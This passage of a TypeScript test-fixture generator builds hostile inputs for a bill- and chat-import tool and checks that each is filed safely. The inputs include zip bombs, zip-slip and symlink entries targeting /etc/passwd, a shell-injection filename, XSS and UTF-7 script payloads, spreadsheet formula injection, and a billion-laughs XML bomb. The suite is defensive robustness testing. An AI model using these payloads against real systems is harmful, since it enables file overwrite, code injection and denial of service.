    { outcome: 'filed', innerError: /not a JPEG image \(it is plain text\)/ },
  );
  wa('ratio-bomb', [{ name: 'VID-20190130-WA0002.mp4', data: Buffer.alloc(48 << 20) }], {
    outcome: 'filed',
    problem: /compressed \d+:1; refused/,
  });
  wa(
    'lying-size',
    [{ name: 'IMG-20190130-WA0003.jpg', data: Buffer.alloc(24 << 20, 7), declaredSize: 100 }],
    // Media are read only when each is filed: a lie found then is an error about that entry.
    { outcome: 'filed', innerError: /more than the size its header declares/ },
  );
  wa(
    'declares-4gb',
    [{ name: 'VID-20190130-WA0004.mp4', data: Buffer.alloc(1000), declaredSize: 0xfffffff0 }],
    { outcome: 'filed', problem: /over the \d+-byte limit/ },
  );
  wa('bad-crc', [{ name: 'IMG-20190130-WA0005.jpg', data: jpeg, crc: 0xdeadbeef }], {
    outcome: 'filed',
    innerError: /checksum does not match/,
  });
  const noise = Buffer.from(Array.from({ length: 1 << 16 }, (_, i) => (i * 2654435761) >>> 24));
  wa(
    'overlapping',
    [
      { name: 'IMG-20190130-WA0006.jpg', data: noise },
      { name: 'IMG-20190130-WA0007.jpg', data: noise },
      { name: 'IMG-20190130-WA0012.jpg', data: noise },
    ],
    { outcome: 'filed', innerError: /overlap/i },
    { overlapFirst: 0 },
  );
  wa('bidi-and-nul-names', [
    { name: 'IMG-20190130-WA0008\u202Egpj.exe', data: jpeg },
    { name: Buffer.from('IMG-20190130-WA0010\0.jpg.exe', 'latin1'), data: jpeg },
    { name: 'IMG-20190130-WA0011\n\r.jpg', data: await makeJpeg({ width: 30, height: 60 }) },
  ]);
  wa('chat-is-bomb', [{ name: '_chat.txt', data: Buffer.alloc(40 << 20, 0x41) }], {
    outcome: 'filed',
    problem: /compressed \d+:1; refused/,
  });
  wa(
    'many-entries',
    Array.from({ length: 12_000 }, (_, i) => ({
      name: `IMG-20190130-WA${String(i).padStart(4, '0')}-${i}.jpg`,
      data: tinyJpeg,
      method: 0 as const,
    })),
    { outcome: 'filed', problem: /over the \d+-file limit/ },
  );
  add(
    'zip',
    'whatsapp-encrypted',
    'WhatsApp Chat with Locked.zip',
    await zipOf(
      [
        ['WhatsApp Chat with Ana.txt', chat.toString('utf8')],
        ['IMG-20190130-WA0001.jpg', jpeg],
      ],
      { password: 'pw' },
    ),
    { outcome: 'filed', problem: /password-protected/ },
  );
  const bill = (id: string, bytes: Buffer, expect: Expectation = { outcome: 'filed' }) =>
    add('zip', `bill-${id}`, `bill-${id}.zip`, bytes, expect);
  bill(
    'slip',
    rawZip([
      { name: '../../../evil-bill.csv', data: gbkFixture('alipay-2023.utf8.csv') },
      { name: '/etc/evil-bill-abs', data: Buffer.from('x') },
      { name: 'C:\\Windows\\System32\\evil.dll', data: Buffer.from('MZ') },
    ]),
  );
  bill('ratio-bomb', rawZip([{ name: '支付宝交易明细.csv', data: Buffer.alloc(48 << 20, 0x2c) }]), {
    outcome: 'filed',
    problem: /compressed \d+:1; refused/,
  });
  bill(
    'declares-4gb',
    rawZip([
      { name: 'a.csv', data: Buffer.from('x'), declaredSize: 0xfffffff0 },
      { name: 'b.csv', data: Buffer.from('y'), declaredSize: 0xfffffff0 },
    ]),
    { outcome: 'filed', problem: /over the \d+-byte limit/ },
  );
  bill(
    'lying-size',
    rawZip([{ name: 'statement.pdf', data: Buffer.alloc(16 << 20, 0x25), declaredSize: 1000 }]),
    { outcome: 'filed', problem: /more than the size its header declares/ },
  );
  bill(
    'many-entries',
    rawZip(
      Array.from({ length: 12_000 }, (_, i) => ({
        name: `r${i}.txt`,
        data: Buffer.from(`row ${i}\n`),
        method: 0 as const,
      })),
    ),
    { outcome: 'filed', problem: /over the \d+-file limit/ },
  );
  bill(
    'dir-traversal-dir',
    rawZip([
      { name: '../../evil-dir/', data: Buffer.alloc(0), method: 0 },
      { name: 'ok.txt', data: Buffer.from('ok') },
    ]),
  );
  bill(
    'symlink',
    rawZip([
      { name: 'link-to-root', data: Buffer.from('/'), method: 0, unixMode: 0o120777 },
      { name: 'passwd', data: Buffer.from('../../../../etc/passwd'), method: 0, unixMode: 0o120777 },
    ]),
  );
  bill(
    'gbk-names',
    rawZip([
      {
        name: iconv.encode('支付宝交易明细(20230301-20230331).csv', 'gbk'),
        data: gbkFixture('alipay-2023.utf8.csv'),
        isUtf8: false,
      },
    ]),
  );
  bill('empty-archive', Buffer.from([0x50, 0x4b, 0x05, 0x06, ...Buffer.alloc(18)]));
  bill(
    'junk-after-signature',
    Buffer.concat([
      Buffer.from([0x50, 0x4b, 0x03, 0x04]),
      Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 53) & 0xff)),
    ]),
    { outcome: 'filed', problem: /not a readable zip/ },
  );
  bill(
    'encrypted-aes',
    await zipOf([['支付宝交易明细.csv', gbkFixture('alipay-2023.utf8.csv')]], { password: 'secret' }),
    { outcome: 'filed', innerError: /password-protected/ },
  );
  // Zips inside zips: 12 deep, and 4 × 4 × 4 wide with different bytes at every node (no duplicate shortcut).
  let deep = await zipOf([['innermost.txt', 'bottom']]);
  for (let level = 0; level < 12; level++) deep = await zipOf([[`level-${level}.zip`, deep]], { level: 0 });
  bill('nested-12-deep', deep, {
    outcome: 'filed',
    innerError:
      /nested more than \d+ archives deep: it is filed as it is, but what is inside was not unpacked/,
  });
  const wide = async (depth: number, tag: string): Promise<Buffer> =>
    depth === 0
      ? zipOf([[`leaf-${tag}.txt`, `leaf ${tag}`]])
      : zipOf(
          await Promise.all(
            [0, 1, 2, 3].map(
              async (k) => [`n-${tag}${k}.zip`, await wide(depth - 1, `${tag}${k}`)] as [string, Buffer],
            ),
          ),
          { level: 0 },
        );
  bill('nested-4x4x4', await wide(3, 'w'));

  // An e-mail whose attachments are named to climb out of wherever they are saved.
  const attachment = (disposition: string, body: string) =>
    [
      '--b',
      'Content-Type: application/octet-stream',
      `Content-Disposition: attachment; ${disposition}`,
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(body).toString('base64'),
    ].join('\r\n');
  add(
    'zip',
    'eml-attachment-traversal',
    'slip.eml',
    Buffer.from(
      [
        'From: bank@example.com',
        'To: me@example.com',
        'Subject: Your statement',
        'Date: Tue, 1 Oct 2024 00:42:18 +0800',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="b"',
        '',
        '--b',
        'Content-Type: text/plain',
        '',
        'See attached.',
        attachment('filename="../../../evil-mail.exe"', 'MZ one'),
        attachment('filename="C:\\Windows\\evil-mail.bat"', 'MZ two'),
        attachment("filename*=UTF-8''..%2F..%2Fevil-rfc2231.txt", 'three'),
        attachment('filename="/etc/cron.d/evil-mail"', 'four'),
        '--b--',
        '',
      ].join('\r\n'),
    ),
    { outcome: 'filed' },
  );

  // Workbooks that unpack to far more than any bill: exceljs would inflate every part whole.
  const workbookParts = (sharedStrings: RawZipEntry): Buffer =>
    rawZip([
      {
        name: '[Content_Types].xml',
        data: Buffer.from(
          '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        ),
      },
      { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
      sharedStrings,
    ]);
  const strings = (n: number) =>
    Buffer.concat([
      Buffer.from('<?xml version="1.0"?><sst><si><t>'),
      Buffer.alloc(n, 0x41),
      Buffer.from('</t></si></sst>'),
    ]);
  add(
    'zip',
    'xlsx-shared-strings-bomb',
    'bill-bomb.xlsx',
    workbookParts({ name: 'xl/sharedStrings.xml', data: strings(160 << 20) }),
    { outcome: 'filed', problem: /refused before reading/ },
  );
  add(
    'zip',
    'xlsx-shared-strings-lying-size',
    'bill-lying.xlsx',
    workbookParts({ name: 'xl/sharedStrings.xml', data: strings(24 << 20), declaredSize: 2000 }),
    { outcome: 'filed', problem: /refused before reading/ },
  );

  // Hostile names on disk: the content is harmless, the name is the attack.
  const note = (s: string) => Buffer.from(`${s}\n`);
  const named = (id: string, name: string, bytes: Buffer = note(id)) =>
    add('name', id, name, bytes, { outcome: 'filed' });
  named('name-dotdot-prefix', '..evil.txt');
  named('name-three-dots', '...');
  named('name-backslash-traversal', '..\\..\\..\\evil-name.txt');
  named('name-url-encoded-traversal', '%2e%2e%2f%2e%2e%2fevil.txt');
  named('name-windows-con', 'CON');
  named('name-windows-nul-txt', 'NUL.txt');
  named('name-windows-aux-txt', 'AUX.txt');
  named('name-windows-com1-csv', 'com1.csv', Buffer.from('a,b\n1,com1\n'));
  named('name-windows-lpt9-trailing-dot', 'LPT9.');
  named('name-rtl-override', `invoice\u202Egnp.exe`, Buffer.from('MZ pretend executable'));
  named('name-rtl-override-png', `receipt\u202Etxt.png`, await makePng(24, 24, 21));
  named('name-zero-width', `in\u200Bvoice\u200D\uFEFF.txt`);
  named('name-255-bytes-ascii', `${'a'.repeat(251)}.txt`);
  named('name-255-bytes-cjk', `${'账'.repeat(83)}.txt`);
  named('name-newline', 'first line\nsecond line.txt');
  named('name-carriage-return-tab', 'a\rb\tc.txt');
  named('name-leading-dash', '--help.txt');
  named('name-html', '<img src=x onerror=alert(1)>.txt');
  named('name-shell', '$(touch evil-shell); `id`.txt');
  named('name-formula', '=HYPERLINK("http:x","y").csv', Buffer.from('a,b\n1,formula\n'));
  named('name-format-string', '%s%n%x%d.txt');
  named('name-only-spaces', '   .txt');
  named('name-trailing-space', 'trailing .txt ');

  // Broken encodings.
  const enc = (id: string, name: string, bytes: Buffer, expect: Expectation = { outcome: 'filed' }) =>
    add('encoding', id, name, bytes, expect);
  enc(
    'invalid-utf8',
    'invalid-utf8.txt',
    Buffer.concat([
      Buffer.from('账单 '),
      Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc]),
      Buffer.from(' end\n'),
    ]),
  );
  enc(
    'overlong-utf8',
    'overlong.txt',
    Buffer.from([0x2e, 0xc0, 0xae, 0x2e, 0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0x0a]),
  );
  enc('cesu-surrogates', 'surrogates.txt', Buffer.from([0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80, 0x0a]));
  enc(
    'utf16le-no-bom-csv',
    'utf16le.csv',
    Buffer.from(
      readFixture('wechatpay.csv')
        .toString('utf8')
        .replace(/^\uFEFF/, ''),
      'utf16le',
    ),
  );
  const be = Buffer.from('交易时间,金额\n2025-01-01 00:00:00,1.00\n', 'utf16le');
  be.swap16();
  enc('utf16be-no-bom', 'utf16be.txt', be);
  enc(
    'gbk-mislabelled-utf8-html',
    'page.html',
    Buffer.concat([
      Buffer.from('<!doctype html><meta charset="utf-8"><p>'),
      iconv.encode('支付宝交易明细 退款成功', 'gbk'),
      Buffer.from('</p>'),
    ]),
  );
  enc(
    'mixed-utf8-and-gbk-csv',
    'mixed.csv',
    Buffer.concat([
      readFixture('alipay-2023.utf8.csv').subarray(0, 1500),
      iconv.encode('\n2023-03-11 10:00:00,日用百货,某店,/,混合,支出,2.00,余额,交易成功,2026\t,\t,,\n', 'gbk'),
    ]),
  );
  enc(
    'utf8-bom-then-gbk',
    'bom-gbk.csv',
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), gbkFixture('alipay-2023.utf8.csv')]),
  );
  enc(
    'nul-flooded-csv',
    'nul.csv',
    Buffer.concat([Buffer.from('a,b\n'), Buffer.alloc(4096), Buffer.from('\n1,2\n')]),
    { outcome: 'either' },
  );
  enc(
    'eml-utf7-charset',
    'utf7.eml',
    Buffer.from(
      'From: a@example.com\r\nTo: b@example.com\r\nSubject: =?UTF-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?=\r\nDate: Tue, 1 Oct 2024 00:42:18 +0800\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n',
    ),
  );
  enc(
    'eml-gbk-declared-utf8',
    'gbk-body.eml',
    Buffer.concat([
      Buffer.from(
        'From: a@example.com\r\nTo: b@example.com\r\nSubject: bill\r\nDate: Tue, 1 Oct 2024 00:42:18 +0800\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n',
      ),
      iconv.encode('退款成功 39.90 元\r\n', 'gbk'),
    ]),
  );
  enc(
    'lone-cr-line-endings',
    'cr-only.csv',
    Buffer.from(readFixture('bank-en-ddmm-signed.csv').toString('utf8').replace(/\r?\n/g, '\r')),
  );

  // Formula injection in the bills themselves: kept verbatim as data, never evaluated.
  const [p0, p1, p2, p3, p4, p5, p6, p7, p8, p9] = FORMULA_PAYLOADS as [
    string,
    string,
    string,
    string,
    string,
    string,
    string,
    string,
    string,
    string,
  ];
  add(
    'formula',
    'alipay-formulas',
    'alipay-formulas.csv',
    alipayCsv([
      [
        '2023-03-05 12:30:01',
        '餐饮美食',
        p0,
        'a@example.com',
        p1,
        '支出',
        '38.50',
        '花呗',
        '交易成功',
        '2023030522001400001\t',
        'M1\t',
        p2,
      ],
      [
        '2023-03-06 12:30:01',
        '餐饮美食',
        p3,
        '/',
        p4,
        '支出',
        '1.00',
        '余额',
        '交易成功',
        '2023030522001400002\t',
        'M2\t',
        p5,
      ],
    ]),
    { outcome: 'filed' },
  );
  add(
    'formula',
    'wechat-formulas',
    'wechat-formulas.csv',
    wechatCsv([
      [
        '2025-12-10 17:19:40',
        '商户消费',
        p6,
        p7,
        '支出',
        '¥50.71',
        '零钱',
        '支付成功',
        '4200000001\t',
        '/\t',
        p8,
      ],
      [
        '2025-12-11 17:19:40',
        '商户消费',
        p9,
        p0,
        '支出',
        '¥1.00',
        '零钱',
        '支付成功',
        '4200000002\t',
        '/\t',
        p1,
      ],
    ]),
    { outcome: 'filed' },
  );
  add(
    'formula',
    'bank-formulas',
    'bank-formulas.csv',
    bankCsv([
      ['13/04/2025', '14/04/2025', p0, '-39.90', 'CNY', 'POSTED', p1, 'DEBIT'],
      ['12/04/2025', '13/04/2025', p3, '-1.00', 'CNY', 'POSTED', p5, 'DEBIT'],
    ]),
    { outcome: 'filed' },
  );
  // Cell text that names what every JavaScript object has: a lookup table must not find it.
  add(
    'formula',
    'bank-prototype-currencies',
    'bank-prototype.csv',
    bankCsv([
      ['11/04/2025', '12/04/2025', 'SHOP A', '-9.90', 'constructor', 'POSTED', 'SHOP A', 'DEBIT'],
      ['10/04/2025', '11/04/2025', 'SHOP B', '-8.90', '__proto__', 'POSTED', 'SHOP B', 'DEBIT'],
    ]),
    { outcome: 'filed' },
  );
  add(
    'formula',
    'wechat-xlsx-formulas',
    'wechat-formulas.xlsx',
    await smallWorkbook([
      WECHAT_HEADER,
      [
        '2025-12-10 17:19:40',
        '商户消费',
        p0,
        p1,
        '支出',
        '¥50.71',
        '零钱',
        '支付成功',
        '4200000001',
        '/',
        p2,
      ],
    ]),
    { outcome: 'filed' },
  );

  // Text that is cheap to write and could be expensive to read (regular-expression and recursion traps).
  const tb = (id: string, name: string, bytes: Buffer) =>
    add('text-bomb', id, name, bytes, { outcome: 'either' });
  tb('one-8mb-line', 'one-line.txt', Buffer.alloc(8 << 20, 0x61));
  tb(
    'whatsapp-like-8mb-line',
    'WhatsApp Chat with Long.txt',
    Buffer.concat([
      Buffer.from('30/01/2019, 20:49 - Ana: '),
      Buffer.alloc(8 << 20, 0x20),
      Buffer.from('x\n'),
    ]),
  );
  tb(
    'csv-200k-commas',
    'commas.csv',
    Buffer.concat([
      Buffer.from('交易时间,交易类型,交易对方,金额(元)\n'),
      Buffer.alloc(200_000, 0x2c),
      Buffer.from('\n'),
    ]),
  );
  tb(
    'csv-unclosed-quote-4mb',
    'unclosed.csv',
    Buffer.concat([Buffer.from('Date,Description,Debit,Credit\n01/01/2025,"'), Buffer.alloc(4 << 20, 0x61)]),
  );
  tb(
    'eml-100k-header-folds',
    'folds.eml',
    Buffer.from(
      `From: a@example.com\r\nTo: b@example.com\r\nDate: Tue, 1 Oct 2024 00:42:18 +0800\r\nSubject: x${'\r\n '.repeat(100_000)}y\r\n\r\nbody\r\n`,
    ),
  );
  tb(
    'eml-2000-nested-multiparts',
    'nested.eml',
    Buffer.from(
      `From: a@example.com\r\nTo: b@example.com\r\nDate: Tue, 1 Oct 2024 00:42:18 +0800\r\nSubject: nest\r\nMIME-Version: 1.0\r\n${Array.from({ length: 2000 }, (_, i) => `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n`).join('')}Content-Type: text/plain\r\n\r\ndeep\r\n`,
    ),
  );
  tb(
    'telegram-deep-json',
    'result.json',
    Buffer.from(
      `{"name":"x","type":"personal_chat","id":1,"messages":[{"id":1,"type":"message","date":"2024-01-01T00:00:00","date_unixtime":"1704067200","from":"a","text":${'['.repeat(50_000)}${']'.repeat(50_000)}}]}`,
    ),
  );
  tb(
    'ofx-deep-tags',
    'deep.ofx',
    Buffer.from(
      `OFXHEADER:100\nDATA:OFXSGML\n\n<OFX>${'<STMTRS>'.repeat(100_000)}<STMTTRN><TRNAMT>-1<DTPOSTED>20250101</STMTTRN></OFX>\n`,
    ),
  );
  tb(
    'xml-camt-billion-laughs',
    'camt.xml',
    Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "${'x'.repeat(100)}">${Array.from({ length: 8 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt><Stmt><Ntry><Amt Ccy="EUR">&i;</Amt></Ntry></Stmt></BkToCstmrStmt></Document>`,
    ),
  );
  tb('qif-1m-lines', 'many.qif', Buffer.from(`!Type:Bank\n${'D1/1/25\nT-1\n^\n'.repeat(20_000)}`));

  return inputs;
}

async function makeWebp(): Promise<Buffer> {
  const sharp = (await import('sharp')).default;
  return sharp({ create: { width: 120, height: 90, channels: 3, background: { r: 10, g: 120, b: 200 } } })
    .webp()
    .toBuffer();
}

/** Ten ordinary files that must be filed whatever else is in the batch. */
export async function goodFiles(): Promise<{ name: string; bytes: Buffer }[]> {
  return [
    { name: 'Screenshot_20250827-080112.png', bytes: await makePng(180, 360, 1) },
    {
      name: 'IMG_20250820_210509.jpg',
      bytes: await makeJpeg({ taken: '2025:08:20 21:05:09', offset: '+08:00', make: 'Xiaomi', model: '13' }),
    },
    { name: 'invoice.pdf', bytes: makePdf('Invoice 42183017 total 4.11 USD') },
    { name: 'alipay.csv', bytes: gbkFixture('alipay-2023.utf8.csv') },
    { name: 'wechatpay.csv', bytes: readFixture('wechatpay.csv') },
    { name: 'WhatsApp Chat with Ana.txt', bytes: readFixture('whatsapp-android-dmy.txt') },
    { name: 'renewal.eml', bytes: readFixture('renewal-html.eml') },
    { name: 'statement.ofx', bytes: readFixture('bank-v220.ofx') },
    { name: 'camt053.xml', bytes: readFixture('camt053-v08.xml') },
    { name: 'telegram.json', bytes: readFixture('telegram-single.json') },
  ];
}
